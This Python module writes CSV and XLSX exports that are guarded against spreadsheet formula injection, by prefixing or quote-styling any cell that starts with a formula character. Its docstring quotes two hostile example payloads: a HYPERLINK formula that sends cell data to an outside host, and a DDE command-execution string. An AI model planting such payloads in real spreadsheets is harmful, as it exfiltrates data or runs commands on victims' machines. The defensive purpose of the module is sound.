"""Spreadsheet output (CSV and XLSX) safe from formula injection.

A value such as ``=HYPERLINK("http://host/?x="&A1,"click")`` or ``=cmd|' /C calc'!A0`` written
as it is into a CSV or an XLSX cell runs as a formula when the file is opened in a spreadsheet
program. Every CSV and XLSX the product writes (layer exports, the roster, import rejects) goes
through this module, and :func:`neutralise` is the one rule: a text cell starting with
``= + - @``, TAB or CR (or the full-width ``＝ ＋ － ＠`` a Chinese input method types) is

- in CSV, prefixed with ``'`` (OWASP's advice: the spreadsheet shows it as text);
- in XLSX, written as a text cell with Excel's "quote prefix" style: the value is kept exactly
  and never becomes a formula cell.

Masked values go through it too: masking keeps the first character (``=***)``).
"""

from __future__ import annotations

import io
import math
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import IO, Any

import pandas as pd

#: First characters that make a spreadsheet program read a cell as a formula (or DDE).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


def is_formula_like(value: Any) -> bool:
    """Whether ``value`` is text a spreadsheet program could read as a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """``value`` safe for a CSV cell: formula-like text gets a leading ``'``, the rest as is."""
    return "'" + value if is_formula_like(value) else value


def safe_table(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell passed through :func:`neutralise`."""
    out = frame.copy()
    for column in out.columns:
        if out[column].dtype == object or pd.api.types.is_string_dtype(out[column]):
            out[column] = out[column].map(neutralise, na_action="ignore")
    out.columns = [neutralise(str(c)) for c in out.columns]
    return out


def write_csv(frame: pd.DataFrame, target: str | Path | IO[str] | None = None) -> bytes | None:
    """Write ``frame`` as CSV, UTF-8 with BOM (so spreadsheet programs show Chinese).

    Lines end in CRLF (RFC 4180), so a value holding a bare CR is quoted: pandas' default LF
    ending leaves it unquoted and a reader starts a new row there. Returns the bytes when
    ``target`` is None, else writes there and returns None.
    """
    text = safe_table(frame).to_csv(index=False, lineterminator="\r\n")
    if target is None:
        return text.encode("utf-8-sig")
    if isinstance(target, (str, Path)):
        Path(target).write_text(text, encoding="utf-8-sig", newline="")
        return None
    target.write(text)
    return None


def write_csv_rows(
    rows: Iterable[Mapping[str, Any]], fieldnames: list[str], path: str | Path
) -> Path:
    """Write dict rows as CSV (UTF-8 with BOM), every value through :func:`neutralise`."""
    import csv

    path = Path(path)
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=fieldnames)
        writer.writeheader()
        writer.writerows({k: neutralise(v) for k, v in row.items()} for row in rows)
    return path


def _plain(value: Any) -> Any:
    """A value openpyxl can store: numpy scalars unwrapped, missing values empty."""
    if value is None or value is pd.NA or value is pd.NaT:
        return None
    if hasattr(value, "item") and not isinstance(value, (str, bytes)):
        value = value.item()
    if isinstance(value, float) and math.isnan(value):
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    return value


def write_xlsx(
    sheets: Mapping[str, pd.DataFrame], target: str | Path | None = None
) -> bytes | None:
    """Write one sheet per frame (header row first) as XLSX; no cell is ever a formula.

    Text cells are stored as text (openpyxl would otherwise store any text starting with ``=``
    as a formula); formula-like ones also carry the quote-prefix style, so editing them in Excel
    keeps them text. Returns the bytes when ``target`` is None.
    """
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    book = Workbook(write_only=True)
    for name, frame in sheets.items():
        sheet = book.create_sheet(title=str(name)[:31])

        def cell(value: Any, sheet: Any = sheet) -> Any:
            value = _plain(value)
            if not isinstance(value, str):
                return value
            out = WriteOnlyCell(sheet, value)
            out.data_type = "s"
            if is_formula_like(value):
                out.quotePrefix = True
            return out

        sheet.append([cell(str(c)) for c in frame.columns])
        for row in frame.itertuples(index=False, name=None):
            sheet.append([cell(v) for v in row])
    if target is not None:
        book.save(target)
        return None
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()
